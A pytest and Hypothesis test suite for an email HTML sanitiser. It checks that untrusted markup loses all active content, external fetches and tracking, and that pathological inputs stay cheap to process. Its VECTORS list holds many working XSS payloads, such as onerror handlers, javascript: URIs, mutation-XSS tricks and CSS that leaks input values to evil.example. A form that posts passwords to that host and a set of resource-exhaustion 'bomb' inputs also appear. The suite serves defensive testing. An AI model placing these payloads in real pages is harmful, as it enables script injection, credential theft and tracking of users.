"""HTML from strangers: nothing active, nothing fetched, nothing too expensive."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.core.limits import MAX_BODY_BYTES, MAX_HTML_DEPTH, MAX_HTML_TAGS
from shared.core.parsing.html_box import BOX
from shared.core.parsing.sanitise import safe_html, text_from_html
from tests.security.html_audit import wrongs

_BOX = f'<div style="{BOX}">'


def unboxed(html: str) -> str:
    """What is in the box, where there is one."""
    inside = html.startswith(_BOX)
    return html.removeprefix(_BOX).removesuffix("</div>") if inside else html


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert("x")</script>">',
    "<img src=# onmouseover=alert(1)>",
    "<img src=/ onerror='alert(1)'></img>",
    '<img src="jav\tascript:alert(1);">',
    '<img src="jav&#x09;ascript:alert(1);">',
    '<img src=" &#14; javascript:alert(1);">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/relative">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="cid:x">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=http://evil.example><input name=password><button>x</button></form>",
    "<base href=http://evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(http://evil.example/a)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-color:red;background-image:url(http://evil.example/p)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="color:\\75\\72\\6c(http://evil.example)">x</div>',
    '<div style="color:red;/*x*/behavior:url(x)">x</div>',
    '<img src="http://tracker.example/p.gif" width=1 height=1>',
    '<img srcset="http://tracker.example/p.gif 2x" src="cid:a@b">',
    "<table background=http://tracker.example/p.gif><tr><td>x</table>",
    "<body background=http://tracker.example/p.gif onload=alert(1)>x",
    "<video poster=http://tracker.example/p.gif><source src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    '<p id=x class=y name=z onclick="alert(1)">x</p>',
    "<a href=http://x.example ping=http://tracker.example>x</a>",
    "<a href=http://x.example rel=opener target=_top>x</a>",
    "<q cite=http://tracker.example>x</q>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src='cid:a\" onerror=alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<b><p><a href='javascript:alert(1)'><table><a href='javascript:alert(2)'>x",
    "<isindex action=javascript:alert(1) type=image>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror\x0c=alert(1)>",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_vectors_leave_nothing_active(vector: str) -> None:
    shown = safe_html(f"<p>before</p>{vector}<p>after</p>")
    assert wrongs(shown) == []
    assert "before" in shown
    again = unboxed(safe_html(shown)).replace(' target="_blank"', "")
    # Its place is nh3's choice; a second time the box is one of the mail's own.
    once = shown.replace(' target="_blank"', "").replace(_BOX, "<div>")
    assert again == once


@given(
    st.text()
    | st.lists(
        st.sampled_from(
            [
                *VECTORS,
                "<table>",
                "<td>",
                "</p>",
                "<a href=http://x>",
                '"',
                ">",
                "<b>",
                "x",
            ]
        )
    ).map("".join)
)
def test_no_input_raises_or_leaves_anything_active(html: str) -> None:
    assert wrongs(safe_html(html)) == []
    text_from_html(html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hi <b>you</b></p>", "<p>Hi <b>you</b></p>"),
        ('<p style="color: red; position: fixed">x</p>', '<p style="color:red">x</p>'),
        ('<p style="color: RGB(1,2,3)">x</p>', '<p style="color:rgb(1,2,3)">x</p>'),
        ('<img src="http://t.example/p.gif" alt="Logo">', '<img alt="Logo">'),
        ('<img src="cid:logo@x" alt="Logo">', '<img src="cid:logo@x" alt="Logo">'),
        ('<img src="CID:logo@x" alt="Logo">', '<img src="CID:logo@x" alt="Logo">'),
        ("a<!-- b -->c", "ac"),
        ("1 < 2 &amp; 3", "1 &lt; 2 &amp; 3"),
        ("<center>x</center>", "<center>x</center>"),
        ("", ""),
        ("lone \ud800", "lone \ufffd"),
    ],
)
def test_what_is_harmless_stays(html: str, expected: str) -> None:
    assert unboxed(safe_html(html)) == expected


@pytest.mark.parametrize(
    "html",
    [
        "<h1>a</h1><h2>a</h2><h3>a</h3><h4>a</h4><h5>a</h5><h6>a</h6><address>a</address>",
        "<abbr>a</abbr><b>a</b><bdi>a</bdi><bdo>a</bdo><big>a</big><cite>a</cite>",
        "<code>a</code><del>a</del><dfn>a</dfn><em>a</em><i>a</i><ins>a</ins><kbd>a</kbd>",
        "<mark>a</mark><q>a</q><s>a</s><samp>a</samp><small>a</small><span>a</span>",
        "<strike>a</strike><strong>a</strong><sub>a</sub><sup>a</sup><tt>a</tt><u>a</u>",
        "<var>a</var>b<wbr>c<br>d",
        "<blockquote>a</blockquote><pre>a</pre><figure>a<figcaption>b</figcaption></figure>",
        "<dl><dt>a</dt><dd>b</dd></dl>",
        '<ul type="disc"><li type="square">a</li></ul>',
        '<ol start="3" type="a"><li value="4">a</li></ol>',
        '<div align="center">a</div><p align="right">b</p><center>c</center>',
        '<font color="red" face="Arial" size="2">a</font><hr align="left" size="1" width="5">',
        '<img align="left" alt="a" border="0" height="1" src="cid:a@b" width="1">',
        '<p dir="rtl" lang="he" title="a" style="color:red">b</p>',
        (
            '<table align="center" bgcolor="red" border="1" cellpadding="1" cellspacing="1" width="9">'
            '<caption>a</caption><colgroup span="2" width="1"><col span="2" width="1"></colgroup>'
            '<thead align="left" valign="top"><tr align="left" bgcolor="red" valign="top">'
            '<th align="left" bgcolor="red" colspan="2" height="1" rowspan="2" valign="top" width="1">'
            'a</th></tr></thead><tbody align="left" valign="top"><tr>'
            '<td align="left" bgcolor="red" colspan="2" height="1" rowspan="2" valign="top" width="1">'
            "a</td></tr></tbody><tfoot><tr><td>a</td></tr></tfoot></table>"
        ),
    ],
)  # fmt: skip
def test_what_mail_is_made_of_stays(html: str) -> None:
    assert wrongs(safe_html(html)) == []
    assert _pieces(unboxed(safe_html(html))) == _pieces(html)


def _pieces(html: str) -> list[list[str]]:
    """Tags and texts in order; the order of attributes is nh3's choice."""
    return [sorted(piece.split()) for piece in re.split(r"[<>]", html)]


@pytest.mark.parametrize(
    "style",
    [
        "background-color:red", "border:1px", "border-bottom:1px", "border-collapse:separate",
        "border-color:red", "border-left:1px", "border-right:1px", "border-spacing:1px",
        "border-style:solid", "border-top:1px", "border-width:1px", "color:red",
        "direction:rtl", "font-family:Arial", "font-size:1px", "font-style:italic",
        "font-variant:small-caps", "font-weight:bold", "letter-spacing:1px",
        "line-height:2", "list-style-type:disc", "padding:1px", "padding-bottom:1px",
        "padding-left:1px", "padding-right:1px", "padding-top:1px", "text-align:left",
        "text-decoration:underline", "text-transform:uppercase", "vertical-align:top",
        "white-space:nowrap", "width:1px", "color:rgb(1, 2, 3)", "color:RGBA(1, 2, 3, 0.5)",
        "color:hsl(1, 2%, 3%)", "color:hsla(1, 2%, 3%, 0.5)",
    ],
)  # fmt: skip
def test_styles_of_mail_stay(style: str) -> None:
    shown = unboxed(safe_html(f'<p style="{style}">x</p>'))
    assert shown.lower() == f'<p style="{style}">x</p>'.lower()


@pytest.mark.parametrize(
    "tag",
    [
        "applet", "audio", "canvas", "embed", "iframe", "math", "noembed", "noframes",
        "noscript", "object", "script", "select", "style", "svg", "template", "textarea",
        "title", "video", "xmp",
    ],
)  # fmt: skip
def test_what_is_no_text_of_the_mail_goes_with_its_content(tag: str) -> None:
    end = "" if tag == "embed" else f"hidden</{tag}>"  # it has no content
    assert safe_html(f"a<{tag}>{end}b") == "ab"


@pytest.mark.parametrize(
    "tag",
    [
        "area", "base", "br", "col", "dd", "dt", "hr", "img", "input", "li", "link", "meta",
        "option", "p", "param", "source", "td", "th", "tr", "wbr", "BR",
    ],
)  # fmt: skip
def test_what_nests_nothing_makes_no_depth(tag: str) -> None:
    shown = unboxed(safe_html("<b>x</b>" + f"<{tag}>" * (MAX_HTML_DEPTH + 1)))
    assert shown.startswith("<b>x</b>")


def test_links_open_elsewhere_and_tell_nobody() -> None:
    shown = safe_html(
        '<a href="https://x.example/?a=1&b=2" target=_top>x</a><a href="mailto:a@b.c">m</a><a href="tel:+491">t</a>'
        '<a href="http://x.example">h</a><a href="HTTPS://x.example">H</a>'
    )
    assert 'href="https://x.example/?a=1&amp;b=2"' in shown
    assert 'href="mailto:a@b.c"' in shown
    assert 'href="tel:+491"' in shown
    assert 'href="http://x.example"' in shown
    assert 'href="HTTPS://x.example"' in shown
    assert shown.count('rel="noopener noreferrer nofollow"') == 5
    assert shown.count('target="_blank"') == 5


def test_tables_of_newsletters_keep_their_shape() -> None:
    html = '<table width="600" cellpadding="0"><tbody><tr><td colspan="2" bgcolor="#fff">x</td></tr></tbody></table>'
    assert unboxed(safe_html(html)) == html


@pytest.mark.slow
@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "<div><table></div></table>" * 9_000,
        "<span></x>" * 19_000,
        "".join(f"<font size={n}>" for n in range(2000)) + "<p>x" * 20_000,
        "<b x='<b'" * 10_000 + "<b",
        "<" * 500_000,
        "<a" * 300_000,
        '<a "' * 200_000,
        "<!--" * 200_000,
        "<script>" * 100_000,
        "<table><tr><td>" * 900,
        "</p>" * 39_000,
        "x" * (2 * MAX_BODY_BYTES),
        "&" * 500_000,
        "&#" + "9" * 500_000 + ";",
        "<p " + "a=b " * 100_000 + ">",
    ],
    ids=lambda bomb: bomb[:24],
)
def test_bombs_cost_little(bomb: str) -> None:
    started = time.process_time()
    shown = safe_html(bomb)
    text_from_html(bomb)
    assert time.process_time() - started < 10  # each is below 2 s alone
    assert len(shown) < 8 * MAX_BODY_BYTES


def test_html_that_costs_too_much_is_shown_as_text() -> None:
    deep = "<div>" * (MAX_HTML_DEPTH + 1) + "a &lt;b&gt;<br>c"
    assert safe_html(deep) == "a &lt;b&gt;<br>\nc"
    assert safe_html(deep.upper()) == "A &lt;B&gt;<br>\nC"
    assert "<div>" not in safe_html("<div><div></div>" * (MAX_HTML_DEPTH + 1) + "x")
    assert unboxed(safe_html("<br>x" * (MAX_HTML_TAGS + 1))).startswith("x<br>\nx<br>")


def test_html_up_to_the_bounds_is_shown_as_it_is() -> None:
    assert "<div>" in safe_html("<div>" * MAX_HTML_DEPTH + "x")
    assert "<div>" in safe_html("<div></div>" * (MAX_HTML_DEPTH + 1) + "x")
    assert "<div>" in safe_html("</div>" + "<div>" * MAX_HTML_DEPTH + "x")
    assert unboxed(safe_html("<br>x" * MAX_HTML_TAGS)).startswith("<br>x<br>x")


def test_formatting_is_kept_while_opening_it_again_stays_cheap() -> None:
    """Three of each kind, at every tag: a million of them, and no more."""
    hundred = "".join(f"<b title={n}>" for n in range(100))
    assert "<b " in safe_html(hundred + "<br>" * 3_233)
    assert "<b " not in safe_html(hundred + "<br>" * 3_234)


def test_too_many_kinds_of_open_formatting_lose_their_weight_not_their_words() -> None:
    html = (
        "".join(f"<b title={n}>w{n}" for n in range(600)) + "<p>x</p>" * 500 + "</b><b "
    )
    for written in (html, html.replace("<b", "<B")):
        shown = safe_html(written)
        assert "<b" not in shown
        assert '<span title="599">w599' in shown
        assert "X" not in shown


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("", ""),
        ("plain", "plain"),
        ("<p>a</p><p>b</p>", "a\nb"),
        ("a<br>b<BR/>c", "a\nb\nc"),
        ("a<b>b</b>c", "abc"),
        ("<td>a</td><td>b</td>", "a\nb"),
        ("a &amp; b &lt;c&gt; &#8364; &nbsp; x", "a & b <c> € x"),
        ("<head><title>T</title></head>x", "x"),
        ("<style>p{}</style>a<script>b()</script>c", "ac"),
        ("<STYLE>p{}</Style >a", "a"),
        ("a<!-- b --><!-- c > d -->e", "ae"),
        ("a<!-- b -->c<!-- d -->e", "ace"),
        ("a<!-->b<!--->c<!---->d", "abcd"),
        ("<!--[if !mso]><!-->a<!--<![endif]-->b", "ab"),
        ("a<!doctype html>b<?x?>c", "abc"),
        ("a<style>never closed", "a"),
        ("a<!-- never closed", "a"),
        ('<img alt="a > b">c', "c"),
        ('<IMG alt="a > b">c', "c"),
        ('a<p title="open>b', "a\nb"),
        ('a<P title="open>b', "a\nb"),
        ('<style title="open>hidden</style>b', "b"),
        ('a</style title="open>b', "ab"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("a</style>b", "ab"),
        ("a <", "a <"),
        ("&#99999999999999999999;x", "\ufffdx"),
        ("&#" + "9" * 5000 + ";x", "\ufffdx"),
        ("&#x" + "f" * 5000 + ";x", "\ufffdx"),
        ("\x00a\u202eb", "ab"),
    ],
)
def test_text_from_html(html: str, expected: str) -> None:
    assert text_from_html(html) == expected


@pytest.mark.parametrize(
    "tag", ["script", "style", "title", "template", "noscript", "NoScript"]
)
def test_what_a_reader_does_not_see_is_no_text(tag: str) -> None:
    assert text_from_html(f"a<{tag}>hidden</{tag}>b") == "ab"


@pytest.mark.parametrize(
    "tag",
    [
        "address", "article", "blockquote", "br", "center", "dd", "dl", "dt", "div", "footer",
        "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "li", "ol", "p", "pre", "section",
        "table", "td", "th", "tr", "ul", "DIV",
    ],
)  # fmt: skip
def test_blocks_are_lines_of_their_own(tag: str) -> None:
    assert text_from_html(f"a<{tag}>b</{tag}>c") == "a\nb\nc"


def test_text_from_html_stops_early() -> None:
    assert text_from_html("<p>x</p>" * 100_000, 10) == "x\nx\nx\nx\nx\n"


@pytest.mark.parametrize(
    ("read", "is_enough"),
    [
        ("a" + " " * 8, False),
        ("a" + " " * 9, True),
        ("a" + " " * 4 + "<b>" + " " * 5, True),
        ("a" + " " * 4 + "<b>" + " " * 4, False),
    ],
)
def test_what_has_been_read_counts_blanks_too(read: str, is_enough: bool) -> None:
    """The limit bounds the work, so that a long gap costs no more than words do."""
    assert text_from_html(f"{read}<i>b</i>", 10) == ("a" if is_enough else "a b")
